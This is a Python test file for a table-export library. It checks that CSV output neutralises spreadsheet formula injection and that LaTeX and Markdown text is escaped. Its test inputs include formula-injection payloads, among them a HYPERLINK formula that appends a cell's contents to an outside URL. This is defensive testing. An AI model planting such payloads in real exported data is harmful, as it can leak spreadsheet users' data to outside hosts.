"""What leaves the program as a table: no formula, and no markup that somebody's name holds."""

import csv

import pandas as pd
import pytest

from aiec_graph.tables import (
    escape_latex,
    escape_markdown,
    harmless,
    quote_formula,
    unquote_formula,
    write_csv,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://e/"&A1)',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "+a\r=1",
        "\n=1",
        "－1",
    ],
)
@pytest.mark.parametrize("dtype", ["object", "str", "category"])
def test_text_that_a_spreadsheet_would_run(tmp_path, text, dtype):
    frame = pd.DataFrame({"a": pd.Series([text, "plain", text], dtype=dtype), "b": [1, 2, 3]})
    before = frame.copy(deep=True)
    write_csv(frame, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    shown = "'" + text.replace("\r", "\n")
    assert [row[0] for row in rows] == ["a", shown, "plain", shown]
    pd.testing.assert_frame_equal(frame, before)


def test_numbers_and_other_text_stay():
    frame = pd.DataFrame(
        {
            "number": [-1.5, 2.0, float("nan")],
            "text": ["-5", "+1.5e-3", "a=b"],
            "mixed": pd.Series([-3, "-x", None], dtype=object),
            "flag": [True, False, True],
        }
    )
    safe = harmless(frame)
    for name in ("number", "text", "flag"):
        pd.testing.assert_series_equal(safe[name], frame[name])
    assert safe["mixed"].tolist()[:2] == [-3, "'-x"]
    assert safe["mixed"].isna().tolist() == [False, False, True]


@pytest.mark.parametrize("text", ["=1+1", "-x", "plain", "-5", "", "it's"])
def test_quoted_text_comes_back(text):
    assert unquote_formula(quote_formula(text)) == text
    assert quote_formula(text) == harmless(pd.DataFrame({"a": [text]}))["a"][0]


def test_names_of_columns_are_text_too():
    assert list(harmless(pd.DataFrame({"=1+1": [1], 0: [2]})).columns) == ["'=1+1", 0]


def test_latex():
    assert escape_latex(r"R&D #1_x 100% {a} $b$ \c ~^") == (
        r"R\&D \#1\_x 100\% \{a\} \$b\$ \textbackslash{}c \textasciitilde{}\textasciicircum{}"
    )
    assert escape_latex("λ_gate 0.1 ± τ") == r"$\lambda_{\mathrm{gate}}$ 0.1 $\pm$ $\tau$"


def test_markdown():
    assert escape_markdown("R&D|x") == r"R&D\|x"
    assert escape_markdown("my_graph _it_ *b* `c`") == r"my_graph \_it\_ \*b\* \`c\`"
    assert escape_markdown("[a](http://e)<b>\nnext") == r"\[a\](http://e)\<b\> next"
